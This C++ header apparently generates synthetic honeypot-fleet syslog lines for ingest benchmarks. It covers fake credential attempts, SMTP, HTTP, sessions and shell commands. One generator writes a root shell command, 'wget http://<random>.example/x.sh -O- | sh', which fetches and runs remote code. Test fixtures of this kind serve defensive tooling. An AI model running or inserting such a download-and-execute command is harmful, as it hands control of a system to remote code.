// Generated syslog lines shaped like a real DECNET fleet's output (reference spec §1.3/§1.4):
// about a fifth credential attempts, the rest connections, SMTP, HTTP, sessions, prober results,
// shell commands and sshd prose; attackers drawn from a fixed population of IPv4 and IPv6
// addresses; a small share of lines trying passwords from a shared list, so credential reuse
// happens as it does in the wild. Shared by the ingest benchmarks.
#pragma once

#include <cstdint>
#include <cstdio>
#include <random>
#include <string>

#include "core/base64.h"

namespace decnet::bench {

class FleetLineMaker {
 public:
  struct Options {
    std::uint32_t seed = 42;
    std::uint32_t attackers = 20'000;   // distinct source addresses
    double reused_secret_share = 0.01;  // lines that try a password from a shared list
  };
  explicit FleetLineMaker(Options options) : options_(options), rng_(options.seed) {}

  // An auth line that tries password `secret` from `ip` against `decky`/`app`.
  std::string credential(const std::string& decky, const char* app, const std::string& user,
                         const std::string& secret, const std::string& ip) {
    return header("134", decky, app, "auth_attempt") + "[relay@55555 username=\"" + user +
           "\" principal=\"" + user + "\" secret_printable=\"" + secret + "\" secret_b64=\"" +
           decnet::core::base64_encode(secret) + "\" src_ip=\"" + ip + "\"]";
  }

  std::string next() {
    current_ = pick(options_.attackers);
    if (static_cast<double>(pick(10'000)) < options_.reused_secret_share * 10'000) {
      static constexpr const char* kApps[] = {"auth-helper", "ftp", "pop3", "imap", "smtp"};
      return credential(decky(), kApps[pick(5)], "admin", "Summer2026!" + std::to_string(pick(20)),
                        ip());
    }
    const unsigned kind = pick(100);
    if (kind < 20) return auth();
    if (kind < 35) return connection();
    if (kind < 47) return smtp();
    if (kind < 62) return http();
    if (kind < 70) return session();
    if (kind < 78) return prober();
    if (kind < 88) return bash();
    if (kind < 94) return sshd();
    return file_captured();
  }

 private:
  unsigned pick(unsigned n) { return static_cast<unsigned>(rng_() % n); }

  // Addresses come from a fixed population, a quarter of them IPv6, as a fleet sees them; the
  // line's attacker is chosen once per line (current_).
  std::string ip() {
    const std::uint32_t n = current_ * 2654435761u;
    if (n % 4 == 0) return "2001:db8:" + hex(n >> 16) + "::" + hex(n & 0xffff);
    return std::to_string(1 + (n >> 24) % 223) + "." + std::to_string((n >> 16) & 255) + "." +
           std::to_string((n >> 8) & 255) + "." + std::to_string(1 + (n & 255) % 254);
  }
  static std::string hex(unsigned v) {
    char buf[8];
    std::snprintf(buf, sizeof buf, "%x", v);
    return buf;
  }
  // Time moves forward about 10 µs per line, as a live stream's does; each sensor's clock and
  // queue put a line up to two seconds early or late.
  std::string timestamp() {
    clock_us_ += 10;
    const std::uint64_t t = clock_us_ + pick(4'000'000);
    const std::uint64_t s = t / 1'000'000;
    char buf[40];
    std::snprintf(buf, sizeof buf, "2026-05-02T%02u:%02u:%02u.%06u+00:00",
                  static_cast<unsigned>(s / 3600 % 24), static_cast<unsigned>(s / 60 % 60),
                  static_cast<unsigned>(s % 60), static_cast<unsigned>(t % 1'000'000));
    return buf;
  }
  // 360 deckies; each attacker works on three of them, as scanners and operators do.
  std::string decky() {
    static constexpr const char* kSites[] = {"eu-west-1", "us-east-2", "ap-south-1", "dmz"};
    const std::uint32_t d = (current_ * 7 + pick(3)) % 360;
    return std::string(kSites[d % 4]) + "-decky-" + std::to_string(10 + d / 4);
  }
  std::string word(std::size_t n) {
    static constexpr char kChars[] = "abcdefghijklmnopqrstuvwxyz0123456789";
    std::string s;
    for (std::size_t i = 0; i < n; ++i) s.push_back(kChars[pick(sizeof kChars - 1)]);
    return s;
  }
  std::string header(const char* pri, const std::string& host, const char* app, const char* msgid) {
    return std::string("<") + pri + ">1 " + timestamp() + " " + host + " " + app + " - " + msgid +
           " ";
  }

  std::string auth() {
    static constexpr const char* kApps[] = {"auth-helper", "ftp", "smtp", "postgres", "mysql"};
    const std::string user = pick(2) ? "root" : "admin" + word(3);
    std::string pass = word(6 + pick(8));
    if (pick(10) == 0) pass += "\\\"x\\]";  // escapes now and then (stay in secret_printable)
    return credential(decky(), kApps[pick(5)], user, pass, ip());
  }
  std::string connection() {
    return header("134", decky(), pick(2) ? "ftp" : "postgres", "connection") +
           "[relay@55555 src_ip=\"" + ip() + "\" src_port=\"" + std::to_string(1024 + pick(60000)) +
           "\" proto=\"tcp\" session=\"" + word(32) +
           "\" banner=\"vsFTPd 3.0.3\"] connection accepted";
  }
  std::string smtp() {
    return header("132", "mail-" + std::to_string(pick(9)), "smtp", "rcpt_denied") +
           "[relay@55555 src=\"" + ip() + "\" value=\"<" + word(8) + "@victim-" + word(8) +
           ".com>\" helo=\"mx-" + word(16) + ".example.net\" mail_from=\"" + word(7) +
           "@spam.example\" count=\"" + std::to_string(pick(50)) + "\"]";
  }
  std::string http() {
    return header("134", "web-0" + std::to_string(pick(9)), "http", "request") +
           "[relay@55555 method=\"GET\" path=\"/" + word(10) + "\" remote_addr=\"" + ip() +
           "\" headers=\"{\\\"Host\\\": \\\"web-01\\\", \\\"User-Agent\\\": \\\"Mozilla/5.0 (X11; "
           "Linux x86_64) zgrab/0.x\\\", \\\"Accept\\\": \\\"*/*\\\"}\" body=\"\"]";
  }
  std::string session() {
    return header("134", decky(), "sessrec", "session_recorded") + "[relay@55555 sid=\"" + word(6) +
           "\" service=\"ssh\" src_ip=\"" + ip() + "\" duration_s=\"" + std::to_string(pick(1000)) +
           ".417\" bytes=\"" + std::to_string(pick(100000)) + "\" truncated=\"false\"]";
  }
  std::string prober() {
    const std::string target = ip();
    return header("134", "decnet-prober", "prober", "fingerprint_rotated") +
           "[relay@55555 target_ip=\"" + target +
           "\" target_port=\"22\" probe_type=\"hassh\" old_hash=\"" + word(32) + "\" new_hash=\"" +
           word(32) + "\"] FP rotation " + target + " hassh";
  }
  std::string bash() {
    if (pick(2)) {
      return header("14", "dmz-gateway", "bash", "-") + "-  CMD uid=0 user=root src=" + ip() +
             " pwd=/root cmd=wget http://" + word(12) + ".example/x.sh -O- | sh";
    }
    return "<14>1 " + timestamp() + " omega-decky 1 - - -  " + timestamp() +
           " SRV-DELTA-77 bash - command [timeQuality tzKnown=\"1\" isSynced=\"1\" "
           "syncAccuracy=\"326228\"] CMD uid=0 user=root src=" +
           ip() + " pwd=/root cmd=ls /var/www/html";
  }
  std::string sshd() {
    return "<38>1 " + timestamp() + " dmz-gateway sshd " + std::to_string(100 + pick(30000)) +
           " - - Failed password for root from " + ip() + " port " +
           std::to_string(1024 + pick(60000)) + " ssh2";
  }
  std::string file_captured() {
    return header("134", decky(), "ssh", "file_captured") + "[relay@55555 stored_as=\"" + word(20) +
           "_evil.sh\" sha256=\"" + word(64) + "\" size=\"1234\" src_ip=\"" + ip() +
           "\" ssh_user=\"root\"]";
  }

  Options options_;
  std::mt19937 rng_;
  std::uint64_t clock_us_ = 6ULL * 3600 * 1'000'000;  // 06:00 UTC
  std::uint32_t current_ = 0;
};

}  // namespace decnet::bench
